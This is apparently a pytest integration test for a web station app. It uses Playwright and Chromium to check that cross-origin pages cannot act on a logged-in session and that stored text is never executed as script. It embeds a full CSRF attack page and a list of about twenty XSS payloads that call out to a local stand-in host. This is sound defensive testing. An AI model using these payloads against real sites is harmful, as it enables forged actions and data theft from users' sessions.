"""Chromium with a session of a station: pages of other origins have no effect, and no text becomes a script."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from bench.station.queue.items import Submission
from bench.station.queue.table import Queue
from bench.station.storage.database import Database
from tests.support.station import Served, serving
from tests.support.web_load import Run

pytestmark = [pytest.mark.integration, pytest.mark.slow, pytest.mark.peer("chromium", "playwright")]

ATTACK = """<!doctype html><body><script>
const url = "%s", run = "%s";
const aims = ["runs/" + run + "/abort", "runs/" + run + "/stop", "queue", "benches/demo/go-on", "tokens",
  "logout", "login", "benches/demo/lease/take-over"];
const content = JSON.stringify({sequence: "smoke", bench: "demo", label: "t", scopes: ["read"], name: "x"});
const tries = [];
for (const aim of aims) {
  const to = url + "api/v1/" + aim;
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + Math.random(); document.body.append(frame);
    Object.assign(form, {method: "post", action: to, enctype, target: frame.name});
    const field = document.createElement("input");
    Object.assign(field, {name: content.slice(0, -1) + ',"x":"', value: '"}'});
    form.append(field); document.body.append(form); form.submit();
  }
  for (const mode of ["no-cors", "cors"]) for (const method of ["POST", "PUT", "DELETE"])
    for (const type of ["text/plain", "application/json"])
      tries.push(fetch(to, {method, mode, credentials: "include", body: content, headers: {"content-type": type}})
        .then(answer => answer.text()).then(text => text, () => ""));
  navigator.sendBeacon(to, new Blob([content], {type: "text/plain"}));
  new Image().src = to;
}
for (const read of ["me", "station", "runs", "queue", "audit"]) {
  tries.push(fetch(url + "api/v1/" + read, {credentials: "include"}).then(answer => answer.text(), () => ""));
  for (const kind of ["iframe", "img", "script", "embed", "object"]) {
    const each = document.createElement(kind);
    each.src = each.data = url + "api/v1/" + read; document.body.append(each);
  }
}
new EventSource(url + "api/v1/live", {withCredentials: true}).onmessage = event => tries.push(event.data);
Promise.all(tries).then(read => setTimeout(() => { document.title = "tried " + read.join(""); }, 2000));
</script>"""
HOSTILE = (
    "<script>new Image().src='%s'</script>", "<img src=x onerror=\"new Image().src='%s'\">",
    "<svg onload=\"fetch('%s')\">",
    "\"><script src='%s'></script>", "'><img src='%s'>", "javascript:fetch('%s')",
    "</title><script>fetch('%s')</script>",
    "</textarea><script src=%s></script>", "<iframe srcdoc=\"<script>fetch('%s')</script>\">",
    "<a href=\"javascript:fetch('%s')\">x",
    "<details open ontoggle=\"fetch('%s')\">", "{{constructor.constructor(`fetch('%s')`)()}}", "${fetch('%s')}",
    "<meta http-equiv=refresh content=\"0;url=%s\">", "<link rel=stylesheet href='%s'>", "<base href='%s'>",
    "<style>@import '%s'</style>", "<body onload=fetch('%s')>", "</script><script>fetch('%s')//",
    "<!--><script>fetch('%s')</script>",
)  # fmt: skip


class _Elsewhere(BaseHTTPRequestHandler):
    """Site of somebody else. `page` is its page, `visits` are the other paths that were asked for."""

    page = b""
    visits: list[str] = []  # noqa: RUF012  one for all requests

    def do_GET(self) -> None:
        if self.path.startswith("/hit"):
            self.visits.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_: object) -> None:
        """Be quiet."""


@contextmanager
def elsewhere() -> Iterator[int]:
    """Serve a site of somebody else; yield its port."""
    _Elsewhere.visits.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), _Elsewhere) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port
        finally:
            server.shutdown()
            thread.join()


@contextmanager
def browser(station: Served) -> Iterator[object]:
    """Yield a context of Chromium that is logged in."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
        context = chromium.new_context()
        page = context.new_page()
        page.goto(f"{station.url}health")
        log_in = "code => fetch('/api/v1/login/code', {method: 'POST', body: JSON.stringify({code}), "
        log_in += "headers: {'content-type': 'application/json'}}).then(answer => answer.status)"
        assert page.evaluate(log_in, station.code) == 200
        assert page.goto(f"{station.url}api/v1/me").status == 200
        page.close()
        yield context
        chromium.close()


def test_pages_of_other_origins_have_no_effect(tmp_path: Path) -> None:
    run = Run(tmp_path / "runs")
    with run.under_way(), serving(tmp_path) as station, elsewhere() as port, browser(station) as context:
        _Elsewhere.page = (ATTACK % (station.url, run.name)).encode()
        before = station.get("audit")
        assert [entry["action"] for entry in before] == ["log in"]
        for host in ("127.0.0.1", "localhost"):  # another port of the same site, and another site
            page = context.new_page()
            page.goto(f"http://{host}:{port}/")
            page.wait_for_function("document.title.startsWith('tried')", timeout=60_000)
            assert page.title() == "tried"  # and nothing was read
        assert station.get("audit") == before
        assert station.get("queue") == []
        assert run.heard == []
        # The same from a page of the station does have an effect.
        own = context.new_page()
        own.goto(f"{station.url}health")
        assert own.evaluate(f"fetch('/api/v1/runs/{run.name}/abort', {{method: 'POST'}}).then(a => a.status)") == 200
        assert len(run.heard) == 1


def hostile(port: int) -> list[str]:
    """Return 500 texts, each of which asks another site for a page of its own number if a browser believes it."""
    return [HOSTILE[number % len(HOSTILE)] % f"//127.0.0.1:{port}/hit{number}" for number in range(500)]


def test_none_of_500_texts_becomes_a_script(tmp_path: Path) -> None:
    with elsewhere() as port:
        texts = hostile(port)
        database = Database(tmp_path / "station")
        queue = Queue(database)
        for number in range(0, 500, 4):
            operator, serial, order, procedure = texts[number : number + 4]
            wanted = {"units": {"a": serial[:64]}, "order": order, "procedure": procedure, "operator": operator[:64]}
            queue.submit(Submission(sequence="smoke", bench="demo", **wanted), "anna", held=True)
        database.close()
        with serving(tmp_path) as station, browser(station) as context:
            paths = [
                "api/v1/queue",
                "api/v1/station",
                "queue",
                "",
                *(f"api/v1/queue/{each['item']['id']}" for each in station.get("queue")[:5]),
            ]
            dialogs, opened = [], 0
            for path in paths:
                page = context.new_page()
                page.on("dialog", lambda dialog: dialogs.append(dialog.message) or dialog.dismiss())
                answer = page.goto(f"{station.url}{path}")
                page.wait_for_timeout(500)
                opened += answer.status == 200
                page.close()
            assert opened >= 7
            assert dialogs == []
            assert _Elsewhere.visits == []
            # Where a browser believes such a text, it is seen.
            page = context.new_page()
            _Elsewhere.page = texts[1].encode()
            page.goto(f"http://127.0.0.1:{port}/")
            page.wait_for_timeout(500)
            assert _Elsewhere.visits == ["/hit1"]
